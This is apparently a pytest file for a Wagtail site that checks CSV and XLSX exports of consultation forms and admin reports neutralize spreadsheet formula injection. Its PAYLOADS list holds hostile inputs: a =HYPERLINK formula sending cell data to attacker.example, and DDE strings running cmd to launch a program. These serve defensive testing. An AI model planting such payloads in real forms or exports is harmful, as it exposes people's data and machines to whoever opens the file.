"""No cell of any spreadsheet the admin exports, headings included, can run as a formula
(issue 25, finding 7: a consultation form's question labelled =HYPERLINK(...) came out raw as
a CSV heading and as a live formula in the XLSX file; only the answers were neutralized).

Each export is read back as a spreadsheet program would read it: the CSV with the csv module,
the XLSX with openpyxl (Wagtail's own dependency for it)."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from home.search.models import SearchTermDay
from practice.spreadsheets import FORMULA_PREFIXES, neutral
from tests.factories import (
    ArticlePageFactory,
    ConsultationFormPageFactory,
    ConsultationRequestFactory,
)

pytestmark = pytest.mark.django_db

# What an attacker types: a link that sends the next cell to their site, or a command.
PAYLOADS = [
    prefix + body
    for prefix, body in zip(
        FORMULA_PREFIXES,
        [
            'HYPERLINK("https://attacker.example/?"&B2,"Open")',
            "cmd|' /C calc'!A0",
            "2+5+cmd|' /C calc'!A0",
            "SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1",
            "=1+1",
        ],
        strict=True,
    )
]


def test_each_dangerous_start_gets_an_apostrophe_and_nothing_else_changes():
    assert [neutral(payload) for payload in PAYLOADS] == ["'" + payload for payload in PAYLOADS]
    for harmless in ("Maria", "(555) 201-7788", " =not at the start", "", 42, -3, None):
        assert neutral(harmless) == harmless
    assert neutral(datetime.date(2026, 3, 3)) == datetime.date(2026, 3, 3)


# --- Reading an export back ------------------------------------------------------------------


def download(client, url, export_format):
    response = client.get(f"{url}?export={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode())))


def assert_every_field_quoted(content):
    """Every CSV field is in double quotes, so a spreadsheet that splits on semicolons cannot
    cut one field into a formula: writing the rows again, each quoted, gives the same file."""
    quoted = io.StringIO()
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(csv_rows(content))
    assert quoted.getvalue() == content.decode()


def xlsx_rows(content):
    """The sheet's rows, after checking no cell is a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


READERS = {"csv": csv_rows, "xlsx": xlsx_rows}


def as_read(payloads, export_format):
    """The payloads as neutral cells read back: behind an apostrophe (and, from XLSX, with a
    carriage return read as a line feed, as XML reads it)."""
    cells = ["'" + payload for payload in payloads]
    return [cell.replace("\r", "\n") for cell in cells] if export_format == "xlsx" else cells


def assert_neutral(rows, payloads, export_format):
    """No cell starts as a formula does; each payload is there, behind its apostrophe."""
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
    assert set(as_read(payloads, export_format)) <= set(cells)


# --- The consultation requests: labels and answers -------------------------------------------


@pytest.fixture
def trapped_form(home_page, privacy_page):
    """A consultation form whose questions are labelled with the payloads (staff, or someone
    who took over a staff account, write the labels), and a request answering each with one
    (patients write the answers)."""
    fields = [
        {"label": payload, "clean_name": f"question_{n}", "field_type": "singleline"}
        for n, payload in enumerate(PAYLOADS)
    ]
    page = ConsultationFormPageFactory(parent=home_page, privacy_page=privacy_page, fields=fields)
    answers = {f"question_{n}": payload for n, payload in enumerate(PAYLOADS)}
    ConsultationRequestFactory(page=page, form_data=answers)
    return page


def test_consultation_request_labels_and_answers_never_run(client, superuser, trapped_form):
    client.force_login(superuser)
    url = reverse("wagtailforms:list_submissions", args=[trapped_form.pk])
    for export_format, read in READERS.items():
        content = download(client, url, export_format)
        header, *rows = read(content)
        neutral_payloads = as_read(PAYLOADS, export_format)
        assert header[-len(PAYLOADS) :] == neutral_payloads
        assert rows[0][-len(PAYLOADS) :] == neutral_payloads
        assert_neutral([header, *rows], PAYLOADS, export_format)
        if export_format == "csv":
            assert_every_field_quoted(content)


# --- Every other export: ours and Wagtail's own reports --------------------------------------


@pytest.fixture
def trapped_content(article_index):
    """What staff and patients typed, in the other exports: an article whose title is a
    formula (the review-due report, Wagtail's site history and aging pages reports) and
    searches patients typed (the search report)."""
    ArticlePageFactory(parent=article_index, title=PAYLOADS[0], slug="trap")
    for n, payload in enumerate(PAYLOADS):
        SearchTermDay.objects.create(
            day=datetime.date(2026, 3, 3), language="en", query=payload, searches=n + 1
        )


EXPORTS = {
    "articles due for review": ("education_review_due", PAYLOADS[:1]),
    "what patients search for": ("search_terms_report", PAYLOADS),
    "site history": ("wagtailadmin_reports:site_history", PAYLOADS[:1]),
    "aging pages": ("wagtailadmin_reports:aging_pages", PAYLOADS[:1]),
}


@pytest.mark.parametrize("export", EXPORTS)
def test_no_report_export_runs_a_formula(client, superuser, trapped_content, export):
    url_name, payloads = EXPORTS[export]
    client.force_login(superuser)
    for export_format, read in READERS.items():
        content = download(client, reverse(url_name), export_format)
        assert_neutral(read(content), payloads, export_format)
        if export_format == "csv":
            assert_every_field_quoted(content)


def test_no_export_view_writes_its_spreadsheet_around_the_guard():
    """The guard is in SpreadsheetExportMixin's headings, values and CSV writer: a view that
    wrote its own file would have to repeat it (and would be the one that forgot)."""
    from django.urls import get_resolver
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    assert get_resolver().url_patterns  # every admin view, Wagtail's and ours, imported

    def views_under(cls):
        for view in cls.__subclasses__():
            yield view
            yield from views_under(view)

    views = {
        f"{view.__module__}.{view.__qualname__}": view
        for view in views_under(SpreadsheetExportMixin)
    }
    assert "pages.consultation.views.ConsultationRequestsListView" in views
    assert "wagtail.admin.views.reports.audit_logging.LogEntriesView" in views
    writers = ("stream_csv", "write_csv_response", "write_xlsx", "write_xlsx_response")
    assert [name for name, view in views.items() if set(writers) & set(vars(view))] == []
